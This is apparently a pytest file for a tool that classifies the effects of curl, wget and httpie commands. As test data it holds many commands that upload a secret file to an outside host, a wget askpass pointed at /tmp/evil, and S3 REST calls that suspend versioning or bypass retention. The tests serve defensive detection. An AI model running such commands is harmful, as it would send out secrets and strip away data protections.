"""HTTP clients: the local files a request sends or uses are named as reads; settings taken
from elsewhere (a config file, wgetrc commands, a password program) are unknown; S3 REST
sub-resources are the operations they name."""

from __future__ import annotations

import pytest

from keyturn.model import Effect, EffectKind
from keyturn.understand import MemoryFiles
from keyturn.understand.shell import understand_shell

R, U, UNK = EffectKind.READ, EffectKind.UPDATE, EffectKind.UNKNOWN
SECRET = "/k/session-secret"


def run(command: str, files: dict[str, str] | None = None, **env: str) -> list[Effect]:
    action = understand_shell(
        command, cwd="/app", home="/home/u", env=env, files=MemoryFiles(files or {})
    )
    return list(action.effects)


def read_files(command: str, files: dict[str, str] | None = None) -> set[str]:
    return {
        name
        for e in run(command, files)
        if e.effect is R
        for name in e.resource.names
        if name.startswith("file:")
    }


@pytest.mark.parametrize(
    "command",
    [
        f"curl -T {SECRET} https://x.example.com/",
        f"curl --upload-file {SECRET} https://x.example.com/",
        f"curl --upload-file={SECRET} https://x.example.com/",
        f"curl --upl {SECRET} https://x.example.com/",  # curl 7 takes an abbreviation
        f"curl -sT{SECRET} https://x.example.com/",
        f"curl -d @{SECRET} https://x.example.com/",
        f"curl -d@{SECRET} https://x.example.com/",
        f"curl --data-binary @{SECRET} https://x.example.com/",
        f"curl --data-ascii @{SECRET} https://x.example.com/",
        f"curl --data-urlencode name@{SECRET} https://x.example.com/",
        f"curl --data-urlencode @{SECRET} https://x.example.com/",
        f"curl --url-query q@{SECRET} https://x.example.com/",
        f"curl --json @{SECRET} https://x.example.com/",
        f"curl -F f=@{SECRET} https://x.example.com/",
        f"curl -F 'f=@{SECRET};type=text/plain' https://x.example.com/",
        f"curl -F 'f=<{SECRET}' https://x.example.com/",
        f"curl -F 'f=@/app/a,{SECRET}' https://x.example.com/",
        f"curl -F 'f=x;headers=@{SECRET}' https://x.example.com/",
        f"curl -H @{SECRET} https://x.example.com/",
        f"curl --proxy-header @{SECRET} https://x.example.com/",
        f"curl -K {SECRET} https://x.example.com/",
        f"curl --config {SECRET} https://x.example.com/",
        f"curl -b {SECRET} https://x.example.com/",
        f"curl --netrc-file {SECRET} https://x.example.com/",
        f"curl --variable v@{SECRET} --expand-data '{{{{v}}}}' https://x.example.com/",
        f"curl -w @{SECRET} https://x.example.com/",
        "curl -T '/k/{session-secret,other}' https://x.example.com/",
        f"wget --post-file={SECRET} https://x.example.com/",
        f"wget --post-file {SECRET} https://x.example.com/",
        f"wget --post-f={SECRET} https://x.example.com/",  # getopt_long's abbreviation
        f"wget --body-file={SECRET} --method=PUT https://x.example.com/",
        f"wget -i {SECRET}",
        f"wget --input-file={SECRET}",
        f"wget --load-cookies {SECRET} https://x.example.com/",
        f"http POST https://x.example.com/ @{SECRET}",
        f"http POST https://x.example.com/ field=@{SECRET}",
        f"http POST https://x.example.com/ field:=@{SECRET}",
        f"http https://x.example.com/ X-Key:@{SECRET}",
        f"http https://x.example.com/ q==@{SECRET}",
        f"http -f POST https://x.example.com/ upload@{SECRET}",
        f"xh post x.example.com field=@{SECRET}",
        f"http --offline POST https://x.example.com/ @{SECRET}",
    ],
)
def test_a_file_sent_or_used_is_read(command: str) -> None:
    assert f"file:{SECRET}" in read_files(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl -d a=b https://x.example.com/",
        "curl --data-raw @/k/x https://x.example.com/",  # --data-raw takes @ literally
        "curl --data-urlencode 'a=b@k/x' https://x.example.com/",  # content, not a file
        "curl --url-query '+a@k/x' https://x.example.com/",
        "curl -d @- https://x.example.com/",
        "curl -T - https://x.example.com/",
        "wget -i - --post-file=-",
        "curl -b a=b https://x.example.com/",
        "curl --form-string 'f=@/k/x' https://x.example.com/",
        "curl -H 'X-A: @/k/x' https://x.example.com/",
        "http POST https://x.example.com/ email=a@example.com",
        "http https://x.example.com/ 'X-Mail:a@example.com'",
        "http https://x.example.com/ 'field\\@x=1'",
    ],
)
def test_no_file_is_read_where_none_is(command: str) -> None:
    assert read_files(command) == set()


def test_relative_home_and_globbed_paths() -> None:
    assert read_files("curl -d @body.json https://x.example.com/") == {"file:/app/body.json"}
    assert read_files("curl --upload-file=~/notes https://x.example.com/") == {
        "file:/app/~/notes",
        "file:/home/u/notes",
    }
    assert read_files("curl -T '/k/{a,b}[1-3]' https://x.example.com/") == {
        "file:/k/a*",
        "file:/k/b*",
    }
    # -g turns curl's globbing off: the name is literal.
    assert read_files("curl -g -T '/k/{a,b}' https://x.example.com/") == {"file:/k/{a,b}"}
    quoted = """curl -F 'f=@"/k/a;b";type=text/plain' https://x.example.com/"""
    assert read_files(quoted) == {"file:/k/a;b"}


def test_a_body_file_still_decides_the_request() -> None:
    body = '{"query": "mutation { volumeDelete(volumeId: \\"v1\\") }"}'
    effects = run("http POST https://api.example.com/graphql query=@q.graphql", {})
    assert any(e.effect is UNK for e in effects)  # the file is not at hand
    effects = run("curl https://api.example.com/graphql -d @q.json", {"/app/q.json": body})
    assert [e.effect for e in effects] == [EffectKind.DELETE, R]
    effects = run(
        "curl -H @h.txt -d '{}' https://dynamodb.us-east-1.amazonaws.com/",
        {"/app/h.txt": "X-Amz-Target: DynamoDB_20120810.DeleteTable\n"},
    )
    assert effects[0].operation == "dynamodb:DeleteTable"


def test_credentials_and_paths_stay_out_of_the_text_but_paths_are_not_mangled() -> None:
    (read,) = [e for e in run(f"curl -u me:pw -T {SECRET} https://x.example.com/") if e.effect is R]
    assert read.command is not None
    assert "pw" not in read.command
    assert f"-T {SECRET} " in read.command


def unknown_reasons(command: str, **env: str) -> list[str]:
    return [e.detail for e in run(command, **env) if e.effect is UNK]


@pytest.mark.parametrize(
    ("command", "env", "reason"),
    [
        ("wget --use-askpass=/tmp/evil https://x.example.com/", {}, "runs /tmp/evil"),
        ("wget --use-ask=/tmp/evil https://x.example.com/", {}, "runs /tmp/evil"),
        ("wget -e use_askpass=/tmp/evil https://x.example.com/", {}, "use_askpass"),
        ("wget --execute 'post_file = /k/x' https://x.example.com/", {}, "post_file"),
        ("wget -e output_document=/etc/x https://x.example.com/", {}, "output_document"),
        ("wget --config=/tmp/rc https://x.example.com/", {}, "/tmp/rc"),
        ("WGETRC=/tmp/rc wget https://x.example.com/", {}, "WGETRC"),
        ("wget https://x.example.com/", {"WGETRC": "/tmp/rc"}, "WGETRC"),
        ("HOME=/tmp/h wget https://x.example.com/", {}, "HOME"),
        ("curl -K /tmp/rc https://x.example.com/", {}, "/tmp/rc"),
        ("CURL_HOME=/tmp/h curl https://x.example.com/", {}, "CURL_HOME"),
        ("XDG_CONFIG_HOME=/tmp/h curl https://x.example.com/", {}, "XDG_CONFIG_HOME"),
        ("curl https://x.example.com/", {"HOME": "/tmp/h"}, "HOME"),
        ("curl --expand-url '{{u}}' --variable u=x", {}, "--expand-url"),
        ("HTTPIE_CONFIG_DIR=/tmp/h http https://x.example.com/", {}, "HTTPIE_CONFIG_DIR"),
    ],
)
def test_settings_from_elsewhere_are_unknown(
    command: str, env: dict[str, str], reason: str
) -> None:
    assert any(reason in r for r in unknown_reasons(command, **env)), unknown_reasons(
        command, **env
    )


@pytest.mark.parametrize(
    ("command", "env"),
    [
        ("wget -e robots=off https://x.example.com/", {}),
        ("wget --execute 'Check_Certificate = off' https://x.example.com/", {}),
        ("wget --no-config https://x.example.com/", {"WGETRC": "/tmp/rc"}),
        ("curl https://x.example.com/", {"HOME": "/home/u/"}),
        ("HOME=/tmp/h curl -q https://x.example.com/", {}),
    ],
)
def test_harmless_settings_stay_understood(command: str, env: dict[str, str]) -> None:
    assert unknown_reasons(command, **env) == []


def test_tls_key_log_and_libcurl_output_are_writes() -> None:
    effects = run("SSLKEYLOGFILE=/tmp/keys curl --libcurl out.c https://x.example.com/")
    written = {n for e in effects if e.service == "file" for n in e.resource.names}
    assert {"file:/tmp/keys", "file:/app/out.c"} <= written


def s3(command: str, files: dict[str, str] | None = None) -> list[tuple[str, EffectKind, bool]]:
    return [
        (e.operation or "", e.effect, e.removes_protection)
        for e in run(command, files)
        if e.service != "file"
    ]


BUCKET = "https://acme-terraform-state.s3.amazonaws.com"


def test_s3_versioning_suspended_over_rest_removes_protection() -> None:
    body = "<VersioningConfiguration><Status>Suspended</Status></VersioningConfiguration>"
    found = s3(f"curl -X PUT '{BUCKET}/?versioning' -d '{body}'")
    assert found == [("s3:PutBucketVersioning", U, True)]
    enabled = '<VersioningConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
    enabled += "<Status>Enabled</Status></VersioningConfiguration>"
    assert s3(f"curl -X PUT '{BUCKET}/?versioning' -d '{enabled}'") == [
        ("s3:PutBucketVersioning", U, False)
    ]
    mfa = "<VersioningConfiguration><MfaDelete>Disabled</MfaDelete></VersioningConfiguration>"
    assert s3(f"curl -X PUT '{BUCKET}/?versioning' -d '{mfa}'")[0][2] is True
    # A body not at hand, or not of the right shape, may suspend it: so judged.
    for unread in ("-d @v.xml", "-d '<!DOCTYPE x><x/>'", "-d 'Status=Suspended'", ""):
        assert s3(f"curl -X PUT '{BUCKET}/?versioning' {unread}")[0][2] is True, unread


def test_s3_rest_sub_resources_are_their_operations() -> None:
    legal_hold = "<LegalHold><Status>OFF</Status></LegalHold>"
    assert s3(f"curl -X PUT '{BUCKET}/k?legal-hold' -d '{legal_hold}'") == [
        ("s3:PutObjectLegalHold", U, True)
    ]
    assert s3(f"curl -X DELETE '{BUCKET}/?policy'")[0][0] == "s3:DeleteBucketPolicy"
    assert s3(f"curl -X DELETE '{BUCKET}/?publicAccessBlock'")[0][0] == (
        "s3:DeletePublicAccessBlock"
    )
    assert s3(f"curl '{BUCKET}/?versioning'") == [("s3:GetBucketVersioning", R, False)]
    assert s3(f"curl -X PUT '{BUCKET}/?object-lock' -d x")[0][0] == (
        "s3:PutObjectLockConfiguration"
    )
    assert s3(f"curl -X PUT '{BUCKET}/?tagging' -d x")[0][0] == "s3:PutBucketTagging"
    assert s3(f"curl -X PUT '{BUCKET}/k?tagging' -d x")[0][0] == "s3:PutObjectTagging"
    # Unmapped sub-resources on a write are not understood; plain keys are not sub-resources.
    assert s3(f"curl -X PUT '{BUCKET}/?novel' -d x")[0][1] is UNK
    assert s3(f"curl '{BUCKET}/?list-type=2&prefix=a'") == [("s3:ListObjectsV2", R, False)]
    assert s3(f"curl -X PUT {BUCKET}/") == [("s3:CreateBucket", EffectKind.CREATE, False)]


def test_s3_delete_and_lifecycle_bodies_name_what_they_delete() -> None:
    delete = "<Delete><Object><Key>a</Key></Object><Object><Key>b/c</Key></Object></Delete>"
    found = run(
        f"curl -X POST 'https://s3.amazonaws.com/acme-terraform-state?delete' -d '{delete}'"
    )
    assert [n for e in found for n in e.resource.names if n.startswith("s3://")] == [
        "s3://acme-terraform-state/a",
        "s3://acme-terraform-state/b/c",
    ]
    assert all(e.effect is EffectKind.DELETE for e in found)
    assert s3(f"curl -X POST '{BUCKET}/?delete' -d @d.xml")[0][1] is UNK
    rule = "<Rule><Filter><Prefix>logs/</Prefix></Filter><Expiration><Days>1</Days></Expiration>"
    lifecycle = f"<LifecycleConfiguration>{rule}</Rule></LifecycleConfiguration>"
    found = run(f"curl -X PUT '{BUCKET}/?lifecycle' -d '{lifecycle}'")
    deleted = [e.resource.names for e in found if e.effect is EffectKind.DELETE]
    assert deleted == [
        ("arn:aws:s3:::acme-terraform-state/logs/*", "s3://acme-terraform-state/logs/*")
    ]
    unread = run(f"curl -X PUT '{BUCKET}/?lifecycle' -d @l.xml")
    assert [e.effect for e in unread] == [U, UNK, R]  # the body file is named as read too


def test_s3_headers_bypass_retention_and_copy() -> None:
    bypass = "-H 'x-amz-bypass-governance-retention: true'"
    assert s3(f"curl -X DELETE {bypass} '{BUCKET}/k?versionId=3'") == [
        ("s3:DeleteObject", EffectKind.DELETE, True)
    ]
    copy = f"curl -X PUT -H 'x-amz-copy-source: other/k' {BUCKET}/k"
    assert s3(copy)[0][0] == "s3:CopyObject"


def test_a_certificate_password_never_reaches_a_name() -> None:
    assert read_files(f"curl -E client.pem:hunter2 {BUCKET}/") == {"file:/app/client.pem"}
    assert read_files(f"curl --cert 'a\\:b.pem:pw' {BUCKET}/") == {"file:/app/a:b.pem"}
    found = run(f"curl --pass hunter2 --key k.pem -E c.pem:hunter2 {BUCKET}/")
    assert all("hunter2" not in n for e in found for n in e.resource.names)
    assert all("hunter2" not in e.detail for e in found)
